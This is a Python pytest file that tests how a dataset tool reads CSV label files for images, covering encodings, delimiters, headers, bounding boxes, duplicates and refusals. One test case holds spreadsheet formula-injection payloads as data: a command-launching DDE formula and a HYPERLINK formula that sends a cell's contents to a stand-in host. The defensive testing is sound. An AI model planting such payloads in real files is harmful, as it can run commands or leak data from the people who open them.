"""Every flaw of a label file has its answer: generated twins of the hostile uploads, always run."""

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.formats.memory_root import MemoryRoot
from tests.formats.reading import complaints, labels_of, places, read, with_csv
from triptych.core.errors import Refused

PLAIN = [("WBC", "RBC")[number % 2] for number in range(6)]
TWO = "".join(f"cell_{number}.jpg,{name}\n" for number, name in enumerate(PLAIN))
BOX = "".join(f"cell_{number}.jpg,{name},1{number},20,100,80\n" for number, name in enumerate(PLAIN))


class Case(NamedTuple):
    """A label file, what is complained about, and how many labels of which task are read."""

    name: str
    data: bytes
    complaints: set[str]
    task: str
    labels: int


def case(name: str, data: str | bytes, expected: str, task: str = "single_label", labels: int = 6) -> Case:
    """A case; `expected` are codes separated by spaces."""
    return Case(name, data.encode() if isinstance(data, str) else data, set(expected.split()), task, labels)


ONE_HOT = "".join(
    f"cell_{number}.jpg,{name},{int(name == true)}\n"
    for number, true in enumerate(PLAIN)
    for name in ("RBC", "WBC")
)

CASES = [
    case("plain", TWO, ""),
    case("one hot", ONE_HOT, ""),
    case("byte order mark", b"\xef\xbb\xbf" + TWO.encode(), ""),
    case("UTF-16 as Excel writes it", TWO.replace(",", "\t").encode("utf-16"), "csv_delimiter"),
    case("UTF-16 without a mark", TWO.encode("utf-16-le"), "csv_encoding_guessed"),
    case("semicolons", TWO.replace(",", ";"), "csv_delimiter"),
    case("bars", TWO.replace(",", "|"), "csv_delimiter"),
    case("sep line", "sep=;\n" + TWO.replace(",", ";"), "csv_delimiter blank_rows"),
    case("decimal commas", BOX.replace(",", ";").replace("20;", "20,5;"), "csv_delimiter csv_decimal_comma",
         "detection"),
    case("header with corners", "filename,xmin,ymin,xmax,ymax,label\n"
         + "".join(f"cell_{n}.jpg,1{n},20,110,100,{c}\n" for n, c in enumerate(PLAIN)), "header_found", "detection"),
    case("header of two", "Image,Label\n" + TWO, "header_found"),
    case("header with more", "id,age,label\n" + "".join(
        f"cell_{n}.jpg,{30 + n},{c}\n" for n, c in enumerate(PLAIN)), "header_found columns_ignored"),
    case("carriage returns", TWO.replace("\n", "\r"), "csv_cr_line_ends"),
    case("DOS line ends", TWO.replace("\n", "\r\n"), ""),
    case("no last line end", TWO.rstrip(), ""),
    case("blank rows", "\n" + TWO.replace("\n", "\n\n") + ",\n,,\n", "blank_rows"),
    case("trailing commas", TWO.replace("\n", ",,,,\n"), ""),
    case("ghosts", TWO + "ghost.jpg,RBC\n", "label_without_image"),
    case("unlisted", TWO[:30], "image_without_label", labels=2),
    case("two classes", TWO + "cell_0.jpg,RBC\n", "conflicting_labels", "multi_label", 7),
    case("repeated", TWO + "cell_0.jpg,WBC\n", "duplicate_rows"),
    case("not binary", "cell_0.jpg,A,1\ncell_1.jpg,A,2\ncell_2.jpg,A,yes\ncell_3.jpg,A,\ncell_4.jpg,A,0\n"
         "cell_5.jpg,A,1.0\n", "value_not_binary image_without_label", "multi_label", 3),
    case("0 and 1", ONE_HOT + "cell_0.jpg,WBC,0\n", "values_contradict", "multi_label", 12),
    case("negative size", BOX.replace("10,20,100,80", "100,100,-50,-40"), "box_negative_size", "detection", 5),
    case("zero size", BOX.replace("10,20,100,80", "1,1,0,0"), "box_zero_size", "detection"),
    case("words", BOX.replace("10,20,100,80", "left,top,w,h"), "row_unreadable image_without_label", "detection", 5),
    case("not a number", BOX.replace("10,20,100,80", "nan,1,inf,1_0"), "row_unreadable image_without_label",
         "detection", 5),
    case("mixed", "cell_0.jpg,A\ncell_1.jpg,B\ncell_2.jpg,A,1,2,3,4\ncell_3.jpg,A,1,2,3,4\ncell_4.jpg\n",
         "columns_mixed image_without_label", "detection", 3),
    case("stray row", BOX * 3 + "cell_0.jpg,RBC\n", "row_unreadable", "detection", 18),
    case("unclosed quotes", '"cell_0.jpg,RBC\ncell_1.jpg,"WBC\ncell_2.jpg,RBC\n',
         "quote_unclosed image_without_label", labels=3),
    case("NUL", TWO.replace("RBC", "R\0BC"), "nul_removed"),
    case("formulas", "cell_0.jpg,=cmd|' /C calc'!A0\ncell_1.jpg,@SUM(1+9)*cmd\ncell_2.jpg,+cmd\ncell_3.jpg,-cmd\n"
         'cell_4.jpg,\t=1+1\ncell_5.jpg,"=HYPERLINK(""http://x/?""&A1,""x"")"\n', ""),
    case("no endings", TWO.replace(".jpg", ""), "matched_without_ending"),
    case("other endings", TWO.replace(".jpg", ".png"), "matched_without_ending"),
    case("capitals", TWO.replace("cell", "CELL").replace("jpg", "JPG"), "matched_by_case"),
    case("another folder", TWO.replace("cell", "old/cell"), "matched_by_name"),
    case("with the folder", TWO.replace("cell", "image/cell"), ""),
    case("with a dot", TWO.replace("cell", "./cell"), ""),
    case("backslashes", TWO.replace("cell", "image\\cell"), "matched_by_separator"),
    case("spaces", TWO.replace("cell", " cell").replace(",", " , "), "spaces_trimmed"),
    case("spaces and quotes", TWO.replace(",", ', "').replace("\n", '"\n'), "spaces_trimmed"),
    case("some empty classes", TWO.replace("WBC", ""), "class_empty", labels=3),
    case("Latin-1", "".join(f"cell_{n}.jpg,Größe\n" for n in range(6)).encode("latin-1"), "csv_encoding_guessed"),
    case("negative rows", BOX[: BOX.index("cell_5")] + "cell_5.jpg,Nothing to Label,,,,\n", "", "detection"),
    case("paths alone", "".join(f"cell_{n}.jpg\n" for n in range(6)), "paths_only", "detection"),
    case("both", BOX + "cell_0.jpg\n", "nothing_and_labels", "detection"),
    case("alike", TWO + "cell_0.jpg,wbc\n", "conflicting_labels class_names_alike", "multi_label", 7),
]  # fmt: skip


@pytest.mark.parametrize("known", CASES, ids=lambda known: known.name)
def test_a_flaw_is_reported_and_the_rest_is_read(known: Case) -> None:
    inventory = read(with_csv(known.data))
    assert complaints(inventory) == known.complaints
    assert inventory.annotation_sets[0].task == known.task
    assert len(inventory.annotation_sets[0].labels) == known.labels
    assert places(inventory) == list(range(7))


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("".join(f"cell_{n}.jpg,A,1,2,3\n" for n in range(6)), "5 columns"),
        ("".join(f"cell_{n}.jpg,A,1,2\n" for n in range(6)), "4 columns"),
        (b"PK\x03\x04" + bytes(200), "an Excel workbook"),
        (b"\x89PNG\r\n\x1a\n" + bytes(200), "a PNG picture"),
        (bytes(1000) + b"x", "binary data"),
        ("a.png,A\nb.png,B\n", "none of its rows names a picture"),
        ("cell_0.jpg,A,yes\n", "neither 0 nor 1"),
        ("cell_0.jpg,A,a,b,c,d\n", "none of its rows can be read"),
        ("image,label,x_center,y_center,w,h\ncell_0.jpg,A,1,2,3,4\n", "centres of boxes"),
        ("image,label,left,top,w\ncell_0.jpg,A,1,2,3\n", "only some of the four"),
    ],
)
def test_a_label_file_of_which_nothing_can_be_used_refuses_the_source(data: str | bytes, reason: str) -> None:
    with pytest.raises(Refused) as refused:
        read(with_csv(data))
    assert refused.value.code == "labels_unreadable"
    assert reason in refused.value.message
    assert "--option labels=ignore" in refused.value.hint


def test_labels_can_be_left_out() -> None:
    inventory = read(with_csv(b"PK\x03\x04"), labels="ignore")
    assert inventory.annotation_sets == []
    assert [(entry.member, entry.code) for entry in inventory.ignored] == [(6, "labels_ignored")]
    assert complaints(inventory) == {"labels_ignored"}


def test_a_file_of_another_name_that_holds_no_labels_is_left_out() -> None:
    inventory = read(with_csv(TWO) | {"patients.csv": b"name,age,city\nAnn,31,Delft\n"})
    assert [made.name for made in inventory.annotation_sets] == ["label"]
    assert [(entry.member, entry.code) for entry in inventory.ignored] == [(7, "csv_not_labels")]


def test_an_empty_label_file_is_reported() -> None:
    inventory = read(with_csv(b""))
    assert complaints(inventory) == {"label_file_empty"}
    assert inventory.annotation_sets == []
    assert places(inventory) == list(range(7))


def test_a_label_file_without_any_class_keeps_the_pictures() -> None:
    inventory = read(with_csv("".join(f"cell_{n}.jpg,\n" for n in range(6))))
    assert complaints(inventory) == {"class_empty", "label_file_without_labels"}
    assert inventory.annotation_sets == []
    assert places(inventory) == list(range(7))


def test_long_names_of_classes_are_cut_and_stay_apart() -> None:
    long = "k" * 100_000
    inventory = read(with_csv(f"cell_0.jpg,{long}\ncell_1.jpg,{long}x\ncell_2.jpg,{long}\n"))
    names = [entry.name for entry in inventory.annotation_sets[0].classes]
    assert len(names) == 2
    assert all(len(name) == 1000 and name.startswith("k" * 900) for name in names)
    assert "class_name_long" in complaints(inventory)


def test_numbers_that_are_names_stay_text() -> None:
    inventory = read(with_csv('cell_0.jpg,"001"\ncell_1.jpg,001\ncell_2.jpg,1\ncell_3.jpg,1.0\n'))
    assert [row[1] for row in labels_of(inventory)] == ["001", "001", "1", "1.0"]


def test_corners_become_sizes() -> None:
    rows = "filename,xmin,ymin,xmax,ymax,label\ncell_0.jpg,10,20,110,100.5,WBC\n"
    assert labels_of(read(with_csv(rows))) == [("cell_0.jpg", "WBC", None, (10.0, 20.0, 100.0, 80.5))]


def test_findings_carry_the_numbers_of_rows() -> None:
    inventory = read(with_csv(BOX.replace("13,20", "13,top")))
    found = next(finding for finding in inventory.findings if finding.code == "row_unreadable")
    assert found.subject == "label.csv"
    assert found.examples[0].startswith("row 4:")


def test_a_name_that_fits_several_pictures_is_not_matched() -> None:
    files = {
        "image/a.png": b"",
        "image/a.jpg": b"",
        "image/b.png": b"",
        "image/x/c.png": b"",
        "image/y/c.png": b"",
    }
    inventory = read(files | {"label.csv": b"a,1\nb,1\nc.png,1\n"})
    assert labels_of(inventory) == [("b.png", "1", None, None)]
    found = next(finding for finding in inventory.findings if finding.code == "match_ambiguous")
    assert found.count == 2


def test_fifty_thousand_classes_are_read() -> None:
    rows = "".join(f"cell_{number % 6}.jpg,class_{number}\n" for number in range(50_000))
    inventory = read(with_csv(rows))
    names = [entry.name for entry in inventory.annotation_sets[0].classes]
    assert names[:3] == ["class_0", "class_1", "class_2"]
    assert names[-1] == "class_49999"
    assert [entry.id for entry in inventory.annotation_sets[0].classes] == list(range(50_000))


def test_a_damaged_label_file_refuses_the_source() -> None:
    root = MemoryRoot(with_csv(TWO))
    root.damaged.add("label.csv")
    with pytest.raises(Refused, match="its checksum does not fit"):
        read(root)


def test_a_label_file_over_the_limit_refuses_the_source() -> None:
    with pytest.raises(Refused, match="larger than 20 bytes"):
        read(with_csv(TWO), label_bytes=20)


def test_the_limits_of_the_original_refuse_small_classes() -> None:
    assert "class_too_small" not in complaints(read(with_csv(TWO), limits="original"))
    with pytest.raises(Refused) as refused:
        read(with_csv(TWO + "cell_0.jpg,rare\n"), limits="original")
    assert refused.value.code == "class_too_small"
